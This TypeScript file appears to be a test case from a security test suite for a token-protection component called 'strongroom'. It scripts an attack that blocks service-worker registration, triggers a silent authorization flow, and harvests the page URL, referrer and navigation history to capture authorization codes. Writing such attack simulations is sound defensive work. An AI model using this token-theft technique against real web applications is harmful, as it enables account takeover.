import { attack } from "../attack.js";

export default attack({
  name: "unregisters the worker, runs a silent flow in the top page, and reads the tab's history",
  threat: "acquisition of new tokens",
  target: "strongroom",
  wantsCode: true,
  hook(it) {
    ServiceWorkerContainer.prototype.register = () => new Promise(() => {});
    const { navigation } = window as { navigation?: { entries(): { url: string }[] } };
    it.steal(location.href, document.referrer, performance.getEntries());
    it.steal((navigation?.entries() ?? []).map(({ url }) => url));
  },
  payload(it) {
    location.assign(it.authorizationUrl());
  },
  async play(stage) {
    await stage.unregisterWorkers();
    await stage.openUnconnected();
    await stage.injectAndLeave();
    // The user returns to the app, where the script runs again.
    await stage.openUnconnected();
    await stage.browser.evaluate(() => history.back());
    await stage.openUnconnected();
  },
});
